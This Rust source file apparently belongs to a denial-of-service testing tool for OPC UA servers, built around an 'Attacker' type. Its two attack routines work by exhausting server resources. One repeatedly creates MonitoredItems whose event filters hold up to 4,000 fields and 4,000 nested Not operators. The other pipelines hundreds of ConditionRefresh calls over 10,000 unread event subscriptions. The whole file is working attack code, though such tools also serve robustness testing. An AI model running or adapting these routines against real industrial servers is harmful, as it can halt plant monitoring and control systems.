//! Events: filters that take long to check and to apply, and refreshes of many MonitoredItems.

use takt_ua::enumerations::{FilterOperator, MonitoringMode, TimestampsToReturn};
use takt_ua::structures::*;
use takt_ua::{ExtensionObject, NodeId, QualifiedName, ids};

use crate::channel::{Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;

/// Attribute EventNotifier.
const EVENT_NOTIFIER: u32 = 12;

/// Operands of a filter that a server may still accept, and a number that is too large.
const MANY: usize = 250;
const TOO_MANY: usize = 4_000;

/// Creates 60 MonitoredItems with such filters, 10 of which the server refuses, and deletes them with their Subscription,
/// repeatedly. A refresh lets the server apply the filters.
pub(crate) fn filters(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    let filters = [(50, MANY, MANY / 4), (10, TOO_MANY, TOO_MANY)].map(|(count, fields, depth)| {
        let filter = EventFilter {
            select_clauses: vec![field(16); fields],
            where_clause: nested(depth),
        };
        (count, ExtensionObject::from_structure(&filter))
    });
    while attacker.goes_on() {
        let subscription = session.subscribe(attacker)?;
        for (count, filter) in &filters {
            let count = attacker.count(*count);
            monitor(attacker, &mut session, subscription, filter, count)?;
        }
        let refresh = refreshes(&session, subscription, 1);
        session.channel.push(attacker, &refresh)?;
        session.channel.receive(attacker, PATIENCE)?;
        let request = DeleteSubscriptionsRequest {
            request_header: session.header(),
            subscription_ids: vec![subscription],
        };
        let _: DeleteSubscriptionsResponse = session.channel.call(attacker, &request)?;
    }
    Ok(())
}

/// Creates 10 000 MonitoredItems for Events, and calls ConditionRefresh 100 times in each of 8 pipelined requests. The attacker never
/// asks for the Events.
pub(crate) fn refresh(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    let subscription = session.subscribe(attacker)?;
    let filter = ExtensionObject::from_structure(&EventFilter {
        select_clauses: vec![field(1); 10],
        ..EventFilter::default()
    });
    for _ in 0..10 {
        let count = attacker.count(1_000);
        monitor(attacker, &mut session, subscription, &filter, count)?;
    }
    let message = refreshes(&session, subscription, attacker.count(100));
    session.repeat(attacker, &message, 8)
}

/// Returns a selected field: the same name, this many times.
fn field(depth: usize) -> SimpleAttributeOperand {
    SimpleAttributeOperand {
        type_definition_id: NodeId::numeric(0, ids::BASE_EVENT_TYPE),
        browse_path: vec![QualifiedName::new(0, "Message"); depth],
        attribute_id: 13,
        ..SimpleAttributeOperand::default()
    }
}

/// Returns Not of Not of … whether a field is null.
fn nested(depth: usize) -> ContentFilter {
    let element = |filter_operator, operand| ContentFilterElement {
        filter_operator,
        filter_operands: vec![operand],
    };
    let next = |at: usize| ElementOperand {
        index: u32::try_from(at + 1).unwrap_or_default(),
    };
    let not = |at| {
        let next = ExtensionObject::from_structure(&next(at));
        element(FilterOperator::Not, next)
    };
    let mut elements: Vec<_> = (0..depth).map(not).collect();
    let last = ExtensionObject::from_structure(&field(16));
    elements.push(element(FilterOperator::IsNull, last));
    ContentFilter { elements }
}

/// Creates MonitoredItems for Events of the server.
fn monitor(
    attacker: &mut Attacker<'_>,
    session: &mut Session,
    subscription_id: u32,
    filter: &ExtensionObject,
    count: usize,
) -> Result<(), Lost> {
    let item = MonitoredItemCreateRequest {
        item_to_monitor: ReadValueId {
            node_id: NodeId::numeric(0, ids::SERVER),
            attribute_id: EVENT_NOTIFIER,
            ..ReadValueId::default()
        },
        monitoring_mode: MonitoringMode::Reporting,
        requested_parameters: MonitoringParameters {
            filter: filter.clone(),
            queue_size: u32::MAX,
            discard_oldest: true,
            ..MonitoringParameters::default()
        },
    };
    let message = request::message(&CreateMonitoredItemsRequest {
        request_header: session.header(),
        subscription_id,
        timestamps_to_return: TimestampsToReturn::Both,
        items_to_create: vec![item; count],
    });
    session.channel.push(attacker, &message)?;
    session.channel.receive(attacker, PATIENCE)?;
    Ok(())
}

/// Returns a request that calls ConditionRefresh this many times.
fn refreshes(session: &Session, subscription: u32, times: usize) -> Vec<u8> {
    let call = CallMethodRequest {
        object_id: NodeId::numeric(0, ids::CONDITION_TYPE),
        method_id: NodeId::numeric(0, ids::CONDITION_TYPE_CONDITION_REFRESH),
        input_arguments: vec![subscription.into()],
    };
    request::message(&CallRequest {
        request_header: session.header(),
        methods_to_call: vec![call; times],
    })
}
